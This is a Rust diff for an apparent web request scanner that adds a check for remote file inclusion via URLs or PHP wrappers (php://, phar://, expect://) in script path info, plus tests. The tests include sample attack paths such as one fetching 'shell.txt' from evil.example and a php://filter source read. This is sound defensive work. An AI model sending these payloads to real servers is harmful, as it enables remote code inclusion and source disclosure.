@@ -90,6 +90,40 @@ impl UrlChecks {
         }
     }
 
+    /// A URL in the path info after a script (`/index.php/page/http://evil.example/x.txt?`):
+    /// frameworks hand the path info to the script as a parameter, and include what it names.
+    pub(crate) fn scan_path_info(&self, v: &Variants, sink: &mut Sink<'_>) {
+        let text = v.lower();
+        if !sink.wants(RFI_INCLUDE_PARAM) || !text.contains("://") {
+            return;
+        }
+        let after_script = [
+            ".php/", ".php5/", ".phtml/", ".asp/", ".aspx/", ".jsp/", ".cgi/", ".pl/",
+        ]
+        .iter()
+        .filter_map(|ext| text.find(ext).map(|i| i + ext.len()))
+        .min();
+        let Some(start) = after_script else {
+            return;
+        };
+        let info = &text[start..];
+        for scheme in [
+            "http://",
+            "https://",
+            "ftp://",
+            "php://",
+            "file://",
+            "phar://",
+            "zip://",
+            "expect://",
+        ] {
+            if let Some(at) = info.find(scheme) {
+                sink.hit(RFI_INCLUDE_PARAM, text, start + at);
+                return;
+            }
+        }
+    }
+
     pub(crate) fn scan(&self, input: &Input, v: &Variants, sink: &mut Sink<'_>) {
         let text = v.lower();
         if let Some(m) = self.bare_host.find(text.as_bytes()) {
@@ -515,6 +549,37 @@ mod tests {
             let f = families(p);
             assert!(!f.contains(&"rfi"), "{p}: {f:?}");
             assert!(!f.contains(&"ssrf"), "{p}: {f:?}");
+        }
+    }
+}
+
+#[cfg(test)]
+mod path_info_tests {
+    use crate::detect::testing::hits;
+    use crate::extract::Kind;
+    use crate::rules::*;
+
+    #[test]
+    fn urls_in_the_path_info_of_a_script() {
+        for p in [
+            "/index.php/page/http://evil.example/shell.txt?",
+            "/app.cgi/x/ftp://10.0.0.1/a",
+            "/index.php/php://filter/resource=index",
+        ] {
+            assert!(
+                hits(Kind::Path, "path", p, 1).contains(&RFI_INCLUDE_PARAM),
+                "{p}"
+            );
+        }
+        for p in [
+            "/share/https://example.com/article",
+            "/index.php/products/42",
+            "/web/2020/https://x.y/",
+        ] {
+            assert!(
+                !hits(Kind::Path, "path", p, 1).contains(&RFI_INCLUDE_PARAM),
+                "{p}"
+            );
         }
     }
 }
